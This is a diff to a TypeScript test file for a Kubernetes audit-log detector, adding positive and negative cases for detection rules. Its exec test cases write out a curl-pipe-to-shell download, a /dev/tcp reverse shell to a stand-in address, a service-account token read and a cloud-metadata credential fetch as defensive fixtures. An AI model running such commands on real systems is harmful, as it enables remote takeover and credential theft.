@@ -3,7 +3,7 @@ import { join } from 'node:path';
 import { expect } from 'chai';
 import { parseEvent } from '../../../shared/audit/parseEvent.js';
 import type { AuditEvent, ParsedEvent } from '../../../shared/audit/types.js';
-import { DEFAULT_DETECT_SETTINGS, Detector } from '../../../shared/detect/engine.js';
+import { DEFAULT_DETECT_SETTINGS, Detector, type DetectorOptions } from '../../../shared/detect/engine.js';
 import { RULES } from '../../../shared/detect/rules.js';
 import { FINDING_IDS, type RuleId } from '../../../shared/detect/types.js';
 import { corpusDir, makeEvent } from '../../helpers.js';
@@ -33,6 +33,11 @@ const pod = (spec: Record<string, unknown>) => ({
   level: 'Request' as const,
   objectRef: { resource: 'pods', namespace: 'team-a', apiVersion: 'v1' },
   requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'p' }, spec: { containers: [{ name: 'c', image: 'nginx' }], ...spec } },
+});
+const exec = (namespace: string, command: string[]) => ({
+  verb: 'create',
+  ...ref('pods', { subresource: 'exec', name: 'web-1', namespace }),
+  requestURI: `/api/v1/namespaces/${namespace}/pods/web-1/exec?${command.map((c) => `command=${encodeURIComponent(c)}`).join('&')}&container=web&stdin=true&stdout=true&tty=true`,
 });
 const sa = (ns: string, name: string) => ({ username: `system:serviceaccount:${ns}:${name}`, groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, AUTH] });
 
@@ -156,10 +161,151 @@ const cases: Record<RuleId, { fires: Partial<AuditEvent>[]; silent: Partial<Audi
     fires: [{ user: { username: 'mallory', groups: [AUTH] }, annotations: FORBID, responseStatus: { metadata: {}, code: 403 } }],
     silent: [{ user: { username: 'oscar', groups: [AUTH] }, annotations: FORBID, responseStatus: { metadata: {}, code: 403 } }],
   },
+  'system-namespace-workload': {
+    fires: [
+      { verb: 'create', ...ref('pods', { namespace: 'kube-system' }) },
+      { verb: 'create', objectRef: { resource: 'daemonsets', apiGroup: 'apps', apiVersion: 'v1', namespace: 'kube-public' } },
+      { user: sa('ci', 'deployer'), verb: 'create', objectRef: { resource: 'cronjobs', apiGroup: 'batch', apiVersion: 'v1', namespace: 'kube-system' } },
+    ],
+    silent: [
+      { user: sa('kube-system', 'daemon-set-controller'), verb: 'create', ...ref('pods', { namespace: 'kube-system' }) },
+      { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, verb: 'create', ...ref('pods', { namespace: 'kube-system' }) },
+      { verb: 'create', ...ref('pods', { namespace: 'team-a' }) },
+      { verb: 'create', ...ref('configmaps', { namespace: 'kube-system' }) },
+    ],
+  },
+  'untrusted-image-registry': {
+    fires: [
+      { ...pod({ containers: [{ name: 'c', image: 'evil.example.net/miner:1' }] }) },
+      // Docker Hub, written short.
+      { ...pod({ containers: [{ name: 'c', image: 'registry.acme.io/app:1' }], initContainers: [{ name: 'i', image: 'busybox' }] }) },
+    ],
+    silent: [
+      pod({ containers: [{ name: 'c', image: 'registry.acme.io/app:1' }] }),
+      pod({ containers: [{ name: 'c', image: 'ghcr.io/acme/tools@sha256:abc' }] }),
+      // A prefix of a path component is not that path.
+      { ...pod({ containers: [{ name: 'c', image: 'ghcr.io/acme/tools' }] }), verb: 'get' },
+    ],
+  },
+  'workload-container-patch': {
+    fires: [
+      { verb: 'patch', level: 'Request', objectRef: { resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: 'shop', name: 'web' }, requestObject: { spec: { template: { spec: { containers: [{ name: 'sidecar', image: 'x' }] } } } } },
+      { verb: 'patch', level: 'Request', objectRef: { resource: 'pods', apiVersion: 'v1', namespace: 'shop', name: 'web-1' }, requestObject: [{ op: 'add', path: '/spec/containers/-', value: { name: 's', image: 'x' } }] },
+    ],
+    silent: [
+      { verb: 'patch', level: 'Request', objectRef: { resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: 'shop', name: 'web' }, requestObject: { spec: { replicas: 3 } } },
+      { user: sa('argocd', 'argocd-application-controller'), verb: 'patch', level: 'Request', objectRef: { resource: 'deployments', apiGroup: 'apps', apiVersion: 'v1', namespace: 'shop', name: 'web' }, requestObject: { spec: { template: { spec: { containers: [{ name: 'c', image: 'x' }] } } } } },
+    ],
+  },
+  'exec-suspicious-command': {
+    fires: [
+      exec('shop', ['sh', '-c', 'curl -s http://203.0.113.5/x.sh | sh']),
+      exec('shop', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']),
+      exec('shop', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']),
+      exec('shop', ['wget', '-qO-', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/']),
+    ],
+    silent: [exec('shop', ['ls', '-la', '/app']), exec('shop', ['/bin/sh']), { ...exec('shop', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']), annotations: FORBID, responseStatus: { metadata: {}, code: 403 } }],
+  },
+  'exec-kube-system': {
+    fires: [exec('kube-system', ['sh']), { verb: 'create', ...ref('pods', { subresource: 'attach', name: 'etcd-0', namespace: 'kube-system' }) }],
+    silent: [exec('shop', ['sh']), { verb: 'get', ...ref('pods', { subresource: 'log', name: 'etcd-0', namespace: 'kube-system' }) }],
+  },
+  'secret-list-broad': {
+    fires: [{ verb: 'list', ...ref('secrets') }, { verb: 'watch', ...ref('secrets', { namespace: 'kube-system' }) }, { user: sa('ci', 'deployer'), verb: 'list', ...ref('secrets', { namespace: 'default' }) }],
+    silent: [{ verb: 'list', ...ref('secrets', { namespace: 'team-a' }) }, { user: sa('default', 'app'), verb: 'list', ...ref('secrets', { namespace: 'default' }) }, { user: sa('kube-system', 'namespace-controller'), verb: 'list', ...ref('secrets') }],
+  },
+  'secret-read-burst': {
+    // After nine distinct Secrets read (PRELUDE): a tenth fires; the first again does not.
+    fires: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's-9' }) }],
+    silent: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's-0' }) }, { user: { username: 'bob', groups: [AUTH] }, verb: 'get', ...ref('secrets', { namespace: 'a', name: 's-9' }) }],
+  },
+  'secret-read-generic-client': {
+    fires: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's' }), userAgent: 'curl/8.5.0' }, { user: sa('shop', 'web'), verb: 'list', ...ref('secrets', { namespace: 'shop' }), userAgent: 'python-requests/2.31.0' }],
+    silent: [{ verb: 'get', ...ref('secrets', { namespace: 'a', name: 's' }) }, { verb: 'get', ...ref('configmaps', { namespace: 'a', name: 's' }), userAgent: 'curl/8.5.0' }],
+  },
+  'permission-enumeration': {
+    fires: [
+      { user: sa('shop', 'web'), verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } },
+      { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, verb: 'create', objectRef: { resource: 'selfsubjectaccessreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } },
+    ],
+    silent: [{ verb: 'create', objectRef: { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } }, { user: sa('shop', 'web'), verb: 'create', objectRef: { resource: 'subjectaccessreviews', apiGroup: 'authorization.k8s.io', apiVersion: 'v1' } }],
+  },
+  'resource-sweep': {
+    // After 14 kinds of resources (PRELUDE): a 15th fires; one already touched does not.
+    fires: [{ verb: 'list', ...ref('kind-14') }],
+    silent: [{ verb: 'list', ...ref('kind-0') }, { user: sa('kube-system', 'generic-garbage-collector'), verb: 'list', ...ref('kind-14'), sourceIPs: ['10.9.9.9'] }],
+  },
+  'aws-auth-change': {
+    fires: [{ verb: 'patch', ...ref('configmaps', { namespace: 'kube-system', name: 'aws-auth' }) }, { verb: 'delete', ...ref('configmaps', { namespace: 'kube-system', name: 'aws-auth' }) }],
+    silent: [{ verb: 'get', ...ref('configmaps', { namespace: 'kube-system', name: 'aws-auth' }) }, { verb: 'patch', ...ref('configmaps', { namespace: 'team-a', name: 'aws-auth' }) }],
+  },
+  'coredns-config-change': {
+    fires: [{ verb: 'update', ...ref('configmaps', { namespace: 'kube-system', name: 'coredns' }) }],
+    silent: [{ verb: 'get', ...ref('configmaps', { namespace: 'kube-system', name: 'coredns' }) }, { user: { username: 'system:kube-controller-manager', groups: [AUTH] }, verb: 'update', ...ref('configmaps', { namespace: 'kube-system', name: 'coredns' }) }],
+  },
+  'events-deleted': {
+    fires: [{ verb: 'delete', ...ref('events', { namespace: 'shop', name: 'web.17' }) }, { verb: 'deletecollection', objectRef: { resource: 'events', apiGroup: 'events.k8s.io', apiVersion: 'v1', namespace: 'shop' } }],
+    silent: [{ verb: 'list', ...ref('events', { namespace: 'shop' }) }, { user: sa('kube-system', 'namespace-controller'), verb: 'deletecollection', ...ref('events', { namespace: 'gone' }) }],
+  },
+  'exposed-service': {
+    fires: [{ verb: 'create', level: 'Request', ...ref('services', { namespace: 'shop' }), requestObject: { kind: 'Service', spec: { type: 'LoadBalancer', ports: [{ port: 80 }] } } }],
+    silent: [
+      { verb: 'create', level: 'Request', ...ref('services', { namespace: 'shop' }), requestObject: { kind: 'Service', spec: { type: 'ClusterIP' } } },
+      { user: sa('ci', 'deployer'), verb: 'create', level: 'Request', ...ref('services', { namespace: 'shop' }), requestObject: { kind: 'Service', spec: { type: 'NodePort' } } },
+    ],
+  },
+  'kube-system-serviceaccount': {
+    fires: [{ verb: 'create', level: 'Request', ...ref('serviceaccounts', { namespace: 'kube-system' }), requestObject: { kind: 'ServiceAccount', metadata: { name: 'kube-proxy2' } } }],
+    silent: [{ verb: 'create', ...ref('serviceaccounts', { namespace: 'shop', name: 'web' }) }, { user: { username: 'system:kube-controller-manager', groups: [AUTH] }, verb: 'create', ...ref('serviceaccounts', { namespace: 'kube-system', name: 'x' }) }],
+  },
+  'rbac-write-by-serviceaccount': {
+    fires: [{ ...rbac('rolebindings', 'b', 'create'), user: sa('shop', 'web') }],
+    silent: [{ ...rbac('clusterroles', 'admin', 'update'), user: sa('kube-system', 'clusterrole-aggregation-controller') }, rbac('rolebindings', 'b', 'create'), { ...rbac('rolebindings', 'b', 'get'), user: sa('shop', 'web') }],
+  },
+  'csr-creation': {
+    fires: [{ verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', name: 'alice-admin' } }],
+    silent: [
+      { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', name: 'csr-1' } },
+      { user: { username: 'system:bootstrap:abcdef', groups: ['system:bootstrappers', AUTH] }, verb: 'create', objectRef: { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io', apiVersion: 'v1', name: 'csr-2' } },
+    ],
+  },
+  'rbac-change-then-use': {
+    // After alice binds herself a role (PRELUDE): her Secret read fires; bob's, and hers six minutes on, do not.
+    fires: [{ verb: 'get', ...ref('secrets', { namespace: 'prod', name: 'db' }), requestReceivedTimestamp: '2026-07-23T14:50:00.000000Z', stageTimestamp: '2026-07-23T14:50:00.000000Z' }],
+    silent: [
+      { user: { username: 'bob', groups: [AUTH] }, verb: 'get', ...ref('secrets', { namespace: 'prod', name: 'db' }) },
+      { verb: 'get', ...ref('secrets', { namespace: 'prod', name: 'db' }), requestReceivedTimestamp: '2026-07-23T14:53:52.000000Z', stageTimestamp: '2026-07-23T14:53:52.000000Z' },
+    ],
+  },
+  'deny-address': {
+    fires: [{ sourceIPs: ['198.51.100.23'] }, { sourceIPs: ['192.0.2.1', '10.0.0.7'] }],
+    silent: [{ sourceIPs: ['198.51.101.1'] }],
+  },
+  'system-identity-public-address': {
+    fires: [{ user: sa('shop', 'web'), sourceIPs: ['203.0.113.80'] }, { user: { username: 'system:node:n1', groups: ['system:nodes', AUTH] }, sourceIPs: ['::ffff:203.0.113.81'] }],
+    silent: [{ user: sa('shop', 'web'), sourceIPs: ['10.1.2.3'] }, { sourceIPs: ['203.0.113.80'] }, { user: sa('shop', 'web'), sourceIPs: ['198.18.0.1'] }],
+  },
 };
 
 /** Rules that fire only after a burst: the test sends this many matching events first. */
 const WARM_UP: Partial<Record<RuleId, number>> = { 'anonymous-scanning': 19, 'forbidden-burst': 19 };
+
+/** Events sent before each case of a rule that correlates distinct requests. */
+const PRELUDE: Partial<Record<RuleId, Partial<AuditEvent>[]>> = {
+  'secret-read-burst': Array.from({ length: 9 }, (_, i) => ({ verb: 'get', ...ref('secrets', { namespace: 'a', name: `s-${i}` }) })),
+  'resource-sweep': Array.from({ length: 14 }, (_, i) => ({ verb: 'list', ...ref(`kind-${i}`) })),
+  'rbac-change-then-use': [
+    { ...rbac('rolebindings', 'me', 'create', { roleRef: { kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'User', name: 'alice' }] }), requestReceivedTimestamp: '2026-07-23T14:48:51.000000Z', stageTimestamp: '2026-07-23T14:48:51.000000Z' },
+  ],
+};
+
+/** Settings a rule needs to be on, for its cases. */
+const SETTINGS: Partial<Record<RuleId, Partial<DetectorOptions>>> = {
+  'untrusted-image-registry': { allowedRegistries: ['registry.acme.io', 'ghcr.io/acme/tools'] },
+  'deny-address': { denyAddresses: ['198.51.100.0/24', '192.0.2.1'] },
+  'system-identity-public-address': { trustedAddresses: ['198.18.0.0/15'] },
+};
+const detectorFor = (id: RuleId) => new Detector({ ...DEFAULT_DETECT_SETTINGS, rules: {}, ...SETTINGS[id] });
 
 describe('detections', () => {
   it('has a rule, a positive and a negative case for every finding id', () => {
@@ -175,7 +321,8 @@ describe('detections', () => {
     describe(id, () => {
       cases[id].fires.forEach((overrides, i) => {
         it(`fires on case ${i + 1}`, () => {
-          const detector = new Detector();
+          const detector = detectorFor(id);
+          for (const before of PRELUDE[id] ?? []) detector.detect(parsed(before), 'c');
           for (let n = 0; n < (WARM_UP[id] ?? 0); n++) detector.detect(parsed(overrides), 'c');
           const rules = detector.detect(parsed(overrides), 'c').map((f) => f.rule);
           expect(rules, JSON.stringify(overrides)).to.include(id);
@@ -183,7 +330,8 @@ describe('detections', () => {
       });
       cases[id].silent.forEach((overrides, i) => {
         it(`stays silent on case ${i + 1}`, () => {
-          const detector = new Detector();
+          const detector = detectorFor(id);
+          for (const before of PRELUDE[id] ?? []) detector.detect(parsed(before), 'c');
           // Bursts: one short of the count stays silent.
           for (let n = 0; n < Math.max(0, (WARM_UP[id] ?? 0) - 1); n++) detector.detect(parsed(overrides), 'c');
           const rules = detector.detect(parsed(overrides), 'c').map((f) => f.rule);
